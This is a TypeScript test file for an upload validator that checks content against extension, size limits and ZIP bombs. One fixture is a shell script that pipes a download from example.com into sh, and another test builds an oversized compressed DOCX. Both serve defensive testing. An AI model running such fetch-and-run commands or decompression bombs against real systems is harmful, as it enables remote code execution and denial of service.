import { SUBIDA_MAX_BYTES } from '@puente/contract/constants';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { PortalError } from '../portal-error';
import { checkFile, DESCOMPRIMIDO_MAXIMO, FileTooLargeError } from './check-file';
import type { FileUse } from './file-uses';
import { SAMPLES } from './sample-files';

const refusal = async (use: FileUse, extension: string, content: Uint8Array) => {
  const error = await checkFile(use, extension, content).then(
    () => null,
    (e: unknown) => e,
  );
  if (error instanceof PortalError) return { code: error.code, mensaje: error.message };
  if (error instanceof FileTooLargeError) return { http: error.statusCode };
  return error;
};

describe('checkFile', () => {
  it('accepts each family of the document list when content and extension agree', async () => {
    const cases: [string, Uint8Array, string][] = [
      ['pdf', SAMPLES.pdf, 'application/pdf'],
      ['PDF', SAMPLES.pdf, 'application/pdf'],
      ['.png', SAMPLES.png, 'image/png'],
      ['jpg', SAMPLES.jpg, 'image/jpeg'],
      ['jpeg', SAMPLES.jpg, 'image/jpeg'],
      ['gif', SAMPLES.gif, 'image/gif'],
      ['bmp', SAMPLES.bmp, 'image/bmp'],
      ['tif', SAMPLES.tif, 'image/tiff'],
      ['tiff', SAMPLES.tif, 'image/tiff'],
      ['doc', SAMPLES.cfb, 'application/msword'],
      ['ppt', SAMPLES.cfb, 'application/vnd.ms-powerpoint'],
      ['docx', SAMPLES.docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['odt', SAMPLES.odt, 'application/vnd.oasis.opendocument.text'],
      ['csv', SAMPLES.csv, 'text/csv'],
      ['txt', SAMPLES.txt, 'text/plain'],
    ];
    for (const [ext, content, type] of cases) expect(await checkFile('documento-oferta', ext, content), ext).toBe(type);
  });

  it('refuses with 46 an executable renamed .pdf, or any content that is not what the extension says', async () => {
    const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
    expect(await refusal('documento-oferta', 'pdf', SAMPLES.elf)).toEqual(no);
    expect(await refusal('documento-oferta', 'pdf', SAMPLES.exe)).toEqual(no);
    expect(await refusal('documento-oferta', 'docx', SAMPLES.exe)).toEqual(no);
    expect(await refusal('documento-oferta', 'pdf', SAMPLES.png)).toEqual(no);
    expect(await refusal('documento-oferta', 'docx', SAMPLES.plainZip)).toEqual(no);
    expect(await refusal('documento-oferta', 'docx', SAMPLES.odt)).toEqual(no);
    expect(await refusal('documento-oferta', 'pdf', SAMPLES.txt)).toEqual(no);
    expect(await refusal('documento-oferta', 'pdf', new Uint8Array())).toEqual(no);
  });

  it('text formats take text only: no known binary format, no NUL bytes', async () => {
    const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
    expect(await refusal('documento-oferta', 'csv', SAMPLES.binary)).toEqual(no);
    expect(await refusal('documento-oferta', 'txt', SAMPLES.elf)).toEqual(no);
    expect(await refusal('documento-oferta', 'csv', SAMPLES.pdf)).toEqual(no);
    expect(await refusal('documento-oferta', 'txt', SAMPLES.plainZip)).toEqual(no);
  });

  it('text that starts like a program (#!, MZ, Mach-O) is refused as txt or csv, with or without a byte-order mark', async () => {
    const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
    const script = Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n');
    expect(await refusal('documento-oferta', 'txt', script)).toEqual(no);
    expect(await refusal('documento-alumno', 'csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script]))).toEqual(no);
    expect(await checkFile('documento-alumno', 'txt', Buffer.from('# Notas\n#!no es la primera línea\n'))).toBe('text/plain');
    // Too short for file-type to name, and every byte printable in Windows-1252: a Mach-O universal header, "MZ" + text.
    expect(await refusal('documento-alumno', 'csv', Buffer.from([0xca, 0xfe, 0xba, 0xbe]))).toEqual(no);
    expect(await refusal('documento-alumno', 'txt', Buffer.from('MZ hola'))).toEqual(no);
  });

  it('each use has its own list: extensions outside it are refused whatever the content', async () => {
    const no = { code: 46, mensaje: 'Este tipo de fichero no esta permitido' };
    expect(await refusal('documento-oferta', 'exe', SAMPLES.exe)).toEqual(no);
    expect(await refusal('documento-oferta', 'toString', SAMPLES.txt)).toEqual(no);
    expect(await refusal('convenio', 'docx', SAMPLES.docx)).toEqual(no);
    expect(await checkFile('convenio', 'pdf', SAMPLES.pdf)).toBe('application/pdf');
    expect(await refusal('foto-perfil', 'gif', SAMPLES.gif)).toEqual(no);
    expect(await refusal('foto-perfil', 'png', SAMPLES.jpg)).toEqual(no);
    expect(await checkFile('foto-perfil', 'jpeg', SAMPLES.jpg)).toBe('image/jpeg');
  });

  it('more than 2 MB (2000 KB) is a 413, whatever the type; exactly the limit passes', async () => {
    const atLimit = new Uint8Array(SUBIDA_MAX_BYTES);
    atLimit.set(SAMPLES.pdf);
    expect(await checkFile('documento-oferta', 'pdf', atLimit)).toBe('application/pdf');
    const over = new Uint8Array(SUBIDA_MAX_BYTES + 1);
    over.set(SAMPLES.pdf);
    expect(await refusal('documento-oferta', 'pdf', over)).toEqual({ http: 413 });
  });

  it('an office file that would inflate past its limit (a ZIP bomb) is refused with 46; a real one passes', async () => {
    const tipos = strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    );
    const docx = (relleno: number) =>
      zipSync({
        // Stored, as Word writes it, so the type is read from the first entry.
        '[Content_Types].xml': [tipos, { level: 0 }],
        'word/document.xml': strToU8('<w:document/>'),
        'word/media/relleno.bin': [new Uint8Array(relleno), { level: 9 }],
      });
    const bomba = docx(DESCOMPRIMIDO_MAXIMO + 1024 * 1024);
    // Small on the wire, like the 204 KB report: the limit is on what it declares, not on its size.
    expect(bomba.byteLength).toBeLessThan(SUBIDA_MAX_BYTES);
    expect(await refusal('documento-alumno', 'docx', bomba)).toMatchObject({ code: 46 });
    expect(await checkFile('documento-alumno', 'docx', docx(1024 * 1024))).toMatch(/wordprocessingml/);
    // A directory that does not read is refused too.
    expect(await refusal('documento-alumno', 'docx', bomba.subarray(0, bomba.byteLength - 30))).toMatchObject({ code: 46 });
  });
});
